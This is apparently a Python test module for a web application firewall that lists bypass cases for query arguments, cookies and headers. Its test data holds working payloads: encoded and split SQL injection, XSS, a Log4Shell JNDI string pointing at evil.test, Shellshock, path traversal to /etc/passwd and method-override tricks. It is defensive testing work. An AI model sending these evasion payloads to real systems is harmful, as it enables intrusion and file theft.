"""Arguments, cookies and headers: where an attack stands, and how it is written."""

from tests.inspector.envoy.bypasses.case import HONEST, SQL, SQL_ENCODED, Case, cases
from tests.inspector.envoy.wire import http1

_JNDI = "${jndi:ldap://evil.test/a}"
_SCRIPT = "<script>alert(1)</script>"
_JOINED = "each value is looked at by itself; the service that joins them must be told of in a rule"
_BASE64 = "what is inside a value stays there; nobody decodes what only the service knows to be encoded"
_OVERRIDE = "the method is what was asked for; refuse the header by a rule where the service obeys it"
_YOUNGER = "it is younger than these rules; refuse `${` in the header by a rule where a service has an old Log4j"
_OTHER = "the Core Rule Set looks for SQL in no header but User-Agent, Referer and cookies"


def _target(target: str) -> bytes:
    return http1(target)


def _cookie(text: str) -> bytes:
    return http1("/", ("cookie", text))


def _header(name: str):
    return lambda text: http1("/", (name, text.encode("latin-1")))


def _args(template: str):
    return lambda payload: http1("/find?" + template.replace("PAYLOAD", payload))


def arguments() -> list[Case]:
    """Written into a query."""
    sql, honest = SQL_ENCODED, HONEST
    return cases(
        "Arguments",
        ("plainly", _args("id=PAYLOAD"), sql, honest),
        ("with `+` for spaces", _args("id=PAYLOAD"), "1'+or+'1'='1", "a+b"),
        ("every character encoded", _args("id=PAYLOAD"), "".join(f"%{ord(one):02x}" for one in SQL), "%32%31"),
        ("encoded twice", _args("id=PAYLOAD"), "1%2527%2520or%2520%25271%2527%253d%25271", "a%2520b"),
        ("`%u0027`, as IIS reads it", _args("id=PAYLOAD"), "1%u0027%20or%20%u00271%u0027=%u00271", HONEST),
        ("with a NUL", _args("id=PAYLOAD"), "1'%00%20or%20'1'='1", HONEST),
        ("with comments for spaces", _args("id=PAYLOAD"), "1'/**/or/**/'1'='1", "a/b"),
        ("with line ends for spaces", _args("id=PAYLOAD"), "1'%0aor%0a'1'='1", "a%0ab"),
        ("in letters of both cases", _args("id=PAYLOAD"), "1'%20UnIoN%20SeLeCt%20password%20FrOm%20users--",
         "UnIoN%20CaFe"),
        ("as a name", _args("PAYLOAD=1"), sql, "id"),
        ("without a name", _args("PAYLOAD"), sql, honest),
        ("after `;`", _args("a=1;id=PAYLOAD"), sql, honest),
        ("after empty pairs", _args("&&&=&id=PAYLOAD"), sql, honest),
        ("as `id[]`", _args("id[]=PAYLOAD"), sql, honest),
        ("as the second of two", _args("id=1&id=PAYLOAD"), sql, honest),
        ("as the first of two", _args("id=PAYLOAD&id=1"), sql, honest),
        ("after a second question mark", _args("a=1?id=PAYLOAD"), sql, honest),
        ("in the last of 250", _args("a=1&" * 249 + "id=PAYLOAD"), sql, honest),
        ("in the 400th of 400", _args("a=1&" * 399 + "id=PAYLOAD"), sql, None),
        ("in the 1 200th of 1 200", _args("a=1&" * 1199 + "id=PAYLOAD"), sql, None),
        ("at the end of 7 000 characters", _args("id=" + "x" * 7000 + "PAYLOAD"), "'%20or%20'1'%3d'1", honest),
        ("at the end of 30 000 characters", _args("id=" + "x" * 30000 + "PAYLOAD"), "'%20or%20'1'%3d'1", None),
        ("a script with entities", _args("id=PAYLOAD"), "%3Cimg%20src=x%20onerror=%26%2397;lert(1)%3E", "a%20%26%20b"),
        ("a shell command with quotes inside", _args("id=PAYLOAD"), ";c'a't%20/etc/pas'swd'", "cat"),
        ("a path in a value", _args("file=PAYLOAD"), "..%2f..%2f..%2fetc%2fpasswd", "report.pdf"),
        ("a path in a value, encoded twice", _args("file=PAYLOAD"), "..%252f..%252fetc%252fpasswd", "report.pdf"),
        ("a custom rule's argument, encoded", _args("PAYLOAD=on"), "%64ebug", "%64ebut"),
        ("a custom rule's argument as the second of two", _args("debug=off&debug=PAYLOAD"), "on", "off"),
        ("split over two of one name", _args("id=1'%20or&id=PAYLOAD"), "'1'='1", "1", _JOINED),
        ("in base64", _args("id=PAYLOAD"), "MScgb3IgJzEnPScx", "MjE", _BASE64),
    )  # fmt: skip


def cookies() -> list[Case]:
    """In cookies."""
    return cases(
        "Cookies",
        ("a value", _cookie, f"id={SQL}", "id=21"),
        ("a name", _cookie, "1' union select password from users--=1", "id=1"),
        ("in quotation marks", _cookie, f'id="{SQL}"', 'id="21"'),
        ("in a second Cookie header", lambda it: http1("/", ("cookie", "a=1"), ("cookie", f"id={it}")), SQL, HONEST),
        ("a custom rule's cookie in a second Cookie header",
         lambda it: http1("/", ("cookie", "a=1"), ("cookie", f"role={it}")), "root", "user"),
        ("a custom rule's cookie, the second of two", _cookie, "role=user; role=root", "role=user; role=user"),
        ("a custom rule's cookie, encoded", _cookie, "role=%72oot", "role=%75ser"),
        ("a custom rule's cookie, after empty ones", _cookie, ";;; role=root", ";;; role=user"),
    )  # fmt: skip


def headers() -> list[Case]:
    """In headers, and what headers do."""
    return cases(
        "Headers",
        ("User-Agent", _header("user-agent"), _SCRIPT, "Mozilla/5.0"),
        ("User-Agent of a scanner", _header("user-agent"), "sqlmap/1.5", "Mozilla/5.0"),
        ("Referer", _header("referer"), f"http://x.test/{_SCRIPT}", "http://x.test/"),
        ("Log4Shell in any header", _header("x-anything"), _JNDI, "plain", _YOUNGER),
        ("Shellshock", _header("x-anything"), "() { :;}; echo x", "plain"),
        ("SQL in any header", _header("x-anything"), SQL, "plain", _OTHER),
        ("a custom rule's header, of another case", lambda it: http1("/", ("X-DEBUG", it)), "on", "off"),
        ("a custom rule's header, the second of two", lambda it: http1("/", ("x-debug", "off"), ("x-debug", it)),
         "on", "off"),
        ("a custom rule's header with spaces around", lambda it: http1("/", ("x-debug", f"   {it}  \t")), "on", "off"),
        ("a custom rule's header with `_`", lambda it: http1("/", ("x_debug", it)), "on", None),
        ("a space before the colon", lambda it: http1("/", ("x-debug ", it)), "on", None),
        ("a folded header", lambda it: http1("/", ("x-debug", f"\r\n {it}")), "on", "off"),
        ("a header with a NUL", _header("x-debug"), "on\0", "off"),
        ("a bare CR in a custom rule's header", _header("x-debug"), "o\rn", "o\rff"),
        ("a header with a line end in its name", lambda it: http1("/", ("x-a\nx-debug", it)), "on", None),
        ("a method that the policy does not allow", lambda it: http1("/", method=it), "TRACE", "GET"),
        ("a method in small letters", lambda it: http1("/", method=it), "delete", None),
        ("a method that nobody knows", lambda it: http1("/", method=it), "JEFF", None),
        ("a custom rule's method", lambda it: http1("/", method=it), "DELETE", "PUT"),
        ("`x-http-method-override: DELETE`", _header("x-http-method-override"), "DELETE", "PUT", _OVERRIDE),
        ("`x-method-override: DELETE`", _header("x-method-override"), "DELETE", "PUT", _OVERRIDE),
        ("`_method=DELETE`", _args("_method=PAYLOAD"), "DELETE", "PUT", _OVERRIDE),
    )  # fmt: skip


def found() -> list[Case]:
    """All of them."""
    return arguments() + cookies() + headers()
